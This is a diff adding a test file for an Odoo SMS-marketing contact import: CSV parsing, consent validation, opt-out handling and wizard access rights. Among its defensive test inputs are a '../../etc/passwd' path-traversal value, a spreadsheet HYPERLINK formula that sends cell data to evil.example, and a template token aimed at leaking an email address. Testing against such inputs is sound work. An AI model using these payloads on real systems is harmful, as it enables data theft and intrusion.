@@ -1,0 +1,384 @@
+import base64
+import csv
+import io
+
+from odoo.exceptions import AccessError, UserError
+from odoo.tests import tagged
+
+from odoo.addons.web.controllers.export import CSVExport
+
+from ..engine import contact_file, contact_import
+from ..models.sms_marketing_consent import LEGAL_BASES
+from .common import SmsMarketingCase
+
+GOOD = {
+    "name": "Ann Bee",
+    "ref": "SMS-1",
+    "mobile": "+13035550101",
+    "country": "US",
+    "timezone": "America/Denver",
+    "marketing": "yes",
+    "consent": "subscribed",
+    "consent_date": "2026-01-31",
+    "legal_basis": "web_consent",
+    "evidence": "Form of 31 January, archive no. 17",
+}
+
+
+def to_csv(*rows, delimiter=","):
+    """These dictionaries as a file; the columns are the keys of the first."""
+    target = io.StringIO()
+    writer = csv.DictWriter(target, list(rows[0]), delimiter=delimiter, restval="")
+    writer.writeheader()
+    writer.writerows(rows)
+    return target.getvalue().encode()
+
+
+def read(content):
+    return contact_file.read(content, dict(LEGAL_BASES))
+
+
+@tagged("post_install", "-at_install")
+class TestContactFile(SmsMarketingCase):
+    """What is wrong with a file or a row is said; nothing else of it is lost."""
+
+    def assert_unreadable(self, content, *words):
+        with self.assertRaises(contact_file.UnreadableFile) as caught:
+            read(content)
+        for word in words:
+            self.assertIn(word, str(caught.exception))
+
+    def problems(self, **changed):
+        """(column, sentence) of what is wrong with a row; asserts that it is left out."""
+        content = read(to_csv({**GOOD, **changed}, {**GOOD, "ref": "SMS-2"}))
+        self.assertEqual([row.values["ref"] for row in content.rows], ["SMS-2"], changed)
+        self.assertEqual({line for line, _column, _problem in content.errors}, {2})
+        return [(column, problem) for _line, column, problem in content.errors]
+
+    def test_good_row(self):
+        [row] = read(to_csv(GOOD)).rows
+        self.assertEqual(row.line, 2)
+        self.assertTrue(row.marketing)
+        self.assertEqual(row.consent_for, ("mobile",))
+        self.assertEqual(str(row.consent_at), "2026-01-31 00:00:00")
+
+    def test_wrong_columns(self):
+        self.assert_unreadable(
+            b"first,last\nAnn,Bee\n", "“name” is missing", "“first” is not known"
+        )
+        self.assert_unreadable(b"name,name\nAnn,Bee\n", "“name” is there twice")
+        self.assert_unreadable(b"name,,mobile\nAnn,,1\n", "“” is not known")
+
+    def test_empty_file(self):
+        for content in (b"", b"\n", b"\xef\xbb\xbf", b"   ", b"\n\n\n"):
+            self.assert_unreadable(content, "“name” is missing")
+
+    def test_header_only(self):
+        content = read(b"name,mobile\n")
+        self.assertEqual((content.rows, content.errors), ([], []))
+
+    def test_wrong_encoding(self):
+        latin = "name,city\nAnn,Denver\nBjörn,Malmö\n".encode("latin-1")
+        self.assert_unreadable(latin, "Line 3", "UTF-8")
+        self.assert_unreadable("name\nAnn\n".encode("utf-16"), "UTF-8")
+
+    def test_no_text_file(self):
+        self.assert_unreadable(b"name\nAnn\x00Bee\n", "no text file")
+        self.assert_unreadable(b"PK\x03\x04\x14\x00\x06\x00\x08\x00", "no text file")
+
+    def test_byte_order_mark(self):
+        self.assertEqual(len(read(b"\xef\xbb\xbf" + to_csv(GOOD)).rows), 1)
+
+    def test_semicolons(self):
+        [row] = read(to_csv({**GOOD, "city": "Denver, CO"}, delimiter=";")).rows
+        self.assertEqual(row.values["city"], "Denver, CO")
+
+    def test_line_ends(self):
+        for end in (b"\n", b"\r\n", b"\r"):
+            content = read(b"name,city" + end + b"Ann,Denver" + end + b"Bo,Boulder" + end)
+            self.assertEqual([row.values["name"] for row in content.rows], ["Ann", "Bo"], end)
+
+    def test_header_in_capitals_and_with_spaces(self):
+        self.assertEqual(len(read(b" Name ,MOBILE\nAnn,+13035550101\n").rows), 1)
+
+    def test_quoted_newline(self):
+        content = read(to_csv({**GOOD, "evidence": "Line one\nline two"}, {**GOOD, "name": ""}))
+        self.assertEqual(content.rows[0].values["evidence"], "Line one\nline two")
+        # The second row's line is the file's, not the row's number.
+        self.assertIn((4, "name", "is empty"), content.errors)
+
+    def test_blank_rows_are_nothing(self):
+        content = read(b"name,mobile\n,\n\nAnn,+13035550101\n  ,\n")
+        self.assertEqual((len(content.rows), content.errors), (1, []))
+
+    def test_too_many_cells(self):
+        content = read(b"name,mobile\nAnn,+13035550101,Denver\nBo,\n")
+        self.assertEqual([row.values["name"] for row in content.rows], ["Bo"])
+        self.assertIn("more cells", content.errors[0][2])
+
+    def test_too_few_cells(self):
+        [row] = read(b"name,mobile,city\nAnn\n").rows
+        self.assertEqual(row.values["city"], "")
+
+    def test_cells_that_are_too_long(self):
+        self.assertIn(
+            ("evidence", "is longer than 2000 characters"), self.problems(evidence="a" * 2001)
+        )
+        # Python's reader gives up on such a cell, and the rest of the file with it.
+        self.assert_unreadable(to_csv({**GOOD, "evidence": "a" * 200_000}), "Line 2")
+        self.assert_unreadable(b"name," + b"a" * 200_000 + b"\nAnn,x\n", "Line 1")
+
+    def test_quote_that_is_never_closed(self):
+        content = read(b'name,mobile\nAnn,"+13035550101\nBo,\n')
+        self.assertFalse([row for row in content.rows if row.values["name"] == "Bo"])
+
+    def test_values_that_cannot_be(self):
+        for changed, column, words in (
+            ({"name": "  "}, "name", "is empty"),
+            ({"timezone": "Mars/Olympus"}, "timezone", "Mars/Olympus"),
+            ({"timezone": "../../etc/passwd"}, "timezone", "no time zone"),
+            ({"timezone": "Factory"}, "timezone", "no time zone"),
+            ({"timezone": "localtime"}, "timezone", "no time zone"),
+            ({"marketing": "perhaps"}, "marketing", "neither yes nor no"),
+            ({"consent": "agreed"}, "consent", "none of"),
+            ({"consent_for": "fax"}, "consent_for", "none of"),
+            ({"consent_date": "2999-01-01"}, "consent_date", "future"),
+            ({"consent_date": "31.01.2026"}, "consent_date", "no date"),
+            ({"consent_date": "2026-02-30"}, "consent_date", "no date"),
+            ({"consent_date": "0001-01-01T00:00:00+14:00"}, "consent_date", "no date"),
+            ({"consent_date": "9999-12-31T23:59:59-14:00"}, "consent_date", "no date"),
+            ({"legal_basis": "gut feeling"}, "legal_basis", "none of"),
+            ({"consent_date": ""}, "consent_date", "needed"),
+            ({"legal_basis": ""}, "legal_basis", "needed"),
+            ({"evidence": ""}, "evidence", "needed"),
+        ):
+            with self.subTest(changed):
+                problems = self.problems(**changed)
+                self.assertEqual([name for name, _problem in problems], [column])
+                self.assertIn(words, problems[0][1])
+
+    def test_moment_with_a_time_zone_is_utc(self):
+        [row] = read(to_csv({**GOOD, "consent_date": "2026-01-31T23:30:00-07:00"})).rows
+        self.assertEqual(str(row.consent_at), "2026-02-01 06:30:00")
+
+    def test_same_ref_twice(self):
+        content = read(to_csv(GOOD, GOOD))
+        self.assertEqual(len(content.rows), 1)
+        self.assertIn("line 2 already", content.errors[0][2])
+
+    def test_opt_out_needs_no_evidence(self):
+        row = {"name": "Ann", "mobile": "+13035550101", "consent": "unsubscribed"}
+        self.assertEqual(len(read(to_csv(row)).rows), 1)
+
+
+@tagged("post_install", "-at_install")
+class TestContactImport(SmsMarketingCase):
+    def load(self, *rows):
+        content = read(to_csv(*rows))
+        self.assertFalse(content.errors)
+        return contact_import.load(self.env, content.rows, self.type)
+
+    def partner(self, ref="SMS-1"):
+        return self.env["res.partner"].search([("ref", "=", ref)])
+
+    def state_of(self, number):
+        return (
+            self.env["sms.marketing.subscription"]
+            .search([("number", "=", number), ("type_id", "=", self.type.id)])
+            .state
+        )
+
+    def log_of(self, number):
+        return self.env["sms.marketing.consent"].search([("number", "=", number)])
+
+    def test_contact_and_evidence(self):
+        result = self.load({**GOOD, "wording": "I agree to texts."})
+        self.assertEqual((result.created, result.updated, result.warnings), (1, 0, []))
+        partner = self.partner()
+        self.assertEqual(partner.mobile_e164, "+13035550101")
+        self.assertEqual((partner.tz, partner.country_id.code), ("America/Denver", "US"))
+        self.assertTrue(partner.sms_marketing)
+        line = self.log_of("+13035550101")
+        self.assertEqual((line.method, line.legal_basis), ("import", "web_consent"))
+        self.assertEqual(line.explanation, GOOD["evidence"])
+        self.assertEqual(line.wording, "I agree to texts.")
+        self.assertEqual(str(line.occurred_at), "2026-01-31 00:00:00")
+        self.assertEqual(self.send(self.message(partner)).state, "sent")
+
+    def test_marketing_without_consent_gets_nothing(self):
+        self.load({"name": "Ann", "ref": "SMS-1", "mobile": "+13035550101", "marketing": "yes"})
+        recipient = self.send(self.message(self.partner()))
+        self.assertEqual((recipient.state, recipient.reason), ("skipped", "no_consent"))
+
+    def test_number_that_cannot_be_is_kept_without_consent(self):
+        result = self.load({**GOOD, "mobile": "555-CALL-ME"})
+        self.assertEqual(result.created, 1)
+        self.assertEqual(self.partner().mobile, "555-CALL-ME")
+        self.assertFalse(self.partner().mobile_e164)
+        self.assertEqual([column for _line, column, _text in result.warnings], ["mobile", "mobile"])
+        self.assertFalse(result.consents)
+
+    def test_national_number_is_read_as_the_contact_reads_it(self):
+        row = {**GOOD, "mobile": "(303) 555-0101", "country": ""}
+        result = self.load(row)
+        # Without a country the company's counts.
+        self.assertEqual(self.partner().mobile_e164, "+13035550101")
+        self.assertEqual(result.warnings, [])
+        self.assertEqual(self.state_of("+13035550101"), "subscribed")
+        french = self.load({**GOOD, "ref": "SMS-2", "mobile": "06 12 34 56 78", "country": "fr"})
+        self.assertEqual(french.warnings, [])
+        self.assertEqual(self.partner("SMS-2").mobile_e164, "+33612345678")
+
+    def test_unknown_country_and_language_are_told(self):
+        result = self.load({**GOOD, "country": "XX", "lang": "tlh_KX"})
+        self.assertEqual([column for _line, column, _text in result.warnings], ["country", "lang"])
+        self.assertTrue(self.partner())
+
+    def test_consent_for_both_numbers(self):
+        self.load({**GOOD, "phone": "+13035550102", "consent_for": "both"})
+        self.assertEqual(self.state_of("+13035550101"), "subscribed")
+        self.assertEqual(self.state_of("+13035550102"), "subscribed")
+
+    def test_consent_falls_to_the_phone_where_there_is_no_mobile(self):
+        self.load({**GOOD, "mobile": "", "phone": "+13035550102"})
+        self.assertEqual(self.state_of("+13035550102"), "subscribed")
+
+    def test_second_import_updates_by_ref(self):
+        self.load({**GOOD, "city": "Denver"})
+        partner = self.partner()
+        result = self.load({**GOOD, "name": "Ann Cee", "city": "", "marketing": ""})
+        self.assertEqual((result.created, result.updated), (0, 1))
+        self.assertEqual(self.partner(), partner)
+        self.assertEqual(partner.name, "Ann Cee")
+        self.assertEqual(partner.city, "Denver", "an empty cell says nothing")
+        self.assertTrue(partner.sms_marketing, "an empty cell says nothing")
+        self.load({**GOOD, "marketing": "no"})
+        self.assertFalse(partner.sms_marketing, "“no” says no")
+
+    def test_archived_contact_is_not_doubled(self):
+        self.load(GOOD)
+        partner = self.partner()
+        partner.active = False
+        result = self.load(GOOD)
+        self.assertEqual((result.created, result.updated), (0, 1))
+        self.assertFalse(partner.active)
+
+    def test_second_import_does_not_undo_a_later_opt_out(self):
+        self.load(GOOD)
+        self.unsubscribe("+13035550101")
+        result = self.load(GOOD)
+        self.assertEqual(self.state_of("+13035550101"), "unsubscribed")
+        self.assertFalse(result.consents)
+        self.assertEqual([column for _line, column, _text in result.warnings], ["consent"])
+        self.assertIn("opted out later", result.warnings[0][2])
+
+    def test_opt_out_in_the_file(self):
+        self.load(GOOD)
+        self.load({**GOOD, "consent": "unsubscribed", "consent_date": "2026-02-01"})
+        self.assertEqual(self.state_of("+13035550101"), "unsubscribed")
+        self.assertEqual(self.log_of("+13035550101")[0].state, "unsubscribed")
+
+    def test_rows_without_ref_are_new_each_time(self):
+        row = {"name": "No ref", "mobile": "+13035550101"}
+        self.load(row)
+        self.assertEqual(self.load(row).created, 1)
+
+    def test_more_rows_than_a_batch(self):
+        rows = [
+            {**GOOD, "ref": f"SMS-{n}", "mobile": f"+1303{n // 100 + 200}55{n % 100:02d}"}
+            for n in range(contact_import.BATCH + 3)
+        ]
+        steps = []
+        content = read(to_csv(*rows))
+        result = contact_import.load(self.env, content.rows, self.type, progress=steps.append)
+        self.assertEqual(result.created, contact_import.BATCH + 3)
+        self.assertEqual(steps, [contact_import.BATCH, contact_import.BATCH + 3])
+        self.assertEqual(sum(result.consents.values()) + len(result.warnings), len(rows))
+
+    def test_formulas_stay_text(self):
+        formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+        self.load({**GOOD, "name": formula, "city": "+1+1", "evidence": "@SUM(A1)"})
+        partner = self.partner()
+        self.assertEqual((partner.name, partner.city), (formula, "+1+1"))
+        exported = CSVExport().from_data([], ["Name", "City"], [[partner.name, partner.city]])
+        [_header, cells] = csv.reader(io.StringIO(exported))
+        for cell in cells:
+            self.assertTrue(cell.startswith("'"), cell)
+        [recipient] = self.send(self.message(partner, body="Hi {{ object.name }}"))
+        self.assertIn("=HYPERLINK", recipient.text)
+
+    def test_value_that_looks_like_a_token_is_no_token(self):
+        self.load({**GOOD, "name": "{{ object.email ||| x }}", "email": "secret@example.com"})
+        [recipient] = self.send(self.message(self.partner(), body="Hi {{ object.name }}!"))
+        self.assertIn("Hi {{ object.email ||| x }}!", recipient.text)
+        self.assertNotIn("secret@example.com", recipient.text)
+
+
+@tagged("post_install", "-at_install")
+class TestContactImportWizard(SmsMarketingCase):
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        cls.manager = cls.user("manager_sms", "sms_marketing.group_manager")
+
+    def wizard(self, content, **vals):
+        return (
+            self.env["sms.marketing.contact.import"]
+            .with_user(self.manager)
+            .create({"file": base64.b64encode(content), "type_id": self.type.id, **vals})
+        )
+
+    def test_manager_checks_and_imports(self):
+        content = to_csv(GOOD, {**GOOD, "ref": "SMS-2", "consent_date": "soon"})
+        wizard = self.wizard(content, list_name="Fair of January")
+        wizard.action_check()
+        self.assertEqual(wizard.state, "checked")
+        self.assertIn("1 contacts can be imported", wizard.report)
+        self.assertIn("line 3, consent_date", wizard.report)
+        self.assertFalse(self.env["res.partner"].search([("ref", "=", "SMS-1")]))
+        wizard.action_import()
+        self.assertEqual(wizard.state, "done")
+        self.assertIn("1 contacts created, 0 updated, 1 consents recorded", wizard.report)
+        self.assertIn("line 3", wizard.report)
+        partner = self.env["res.partner"].search([("ref", "=", "SMS-1")])
+        self.assertEqual(wizard.list_id.partner_ids, partner)
+        self.assertEqual(wizard.list_id.company_id, self.company)
+        line = self.env["sms.marketing.consent"].search([("number", "=", partner.mobile_e164)])
+        self.assertEqual(line.user_id, self.manager)
+
+    def test_list_keeps_who_is_on_it_in_several_batches(self):
+        wizard = self.wizard(to_csv(GOOD, {**GOOD, "ref": "SMS-2", "mobile": "+13035550102"}))
+        wizard.action_import()
+        self.assertFalse(wizard.list_id)
+
+    def test_unreadable_files_are_explained(self):
+        for content in (
+            b"first,last\nAnn,Bee\n",
+            "name\nBjörn\n".encode("latin-1"),
+            b"\x00\x01",
+            b"\n",
+            to_csv({**GOOD, "evidence": "a" * 200_000}),
+            b"name," + b"a" * 200_000,
+        ):
+            wizard = self.wizard(content)
+            for action in (wizard.action_check, wizard.action_import):
+                with self.assertRaises(UserError) as caught:
+                    action()
+                self.assertTrue(str(caught.exception))
+            self.assertEqual(wizard.state, "new")
+
+    def test_many_problems_are_cut_short(self):
+        rows = [{**GOOD, "ref": "", "name": ""} for _ in range(60)]
+        wizard = self.wizard(to_csv(*rows))
+        wizard.action_check()
+        self.assertIn("0 contacts can be imported", wizard.report)
+        self.assertIn("… and 10 more.", wizard.report)
+
+    def test_user_may_not(self):
+        user = self.user("user_sms", "sms_marketing.group_user,base.group_partner_manager")
+        with self.assertRaises(AccessError):
+            self.env["sms.marketing.contact.import"].with_user(user).create(
+                {"file": base64.b64encode(to_csv(GOOD)), "type_id": self.type.id}
+            )
+        with self.assertRaises(AccessError):
+            self.wizard(to_csv(GOOD)).with_user(user).action_import()
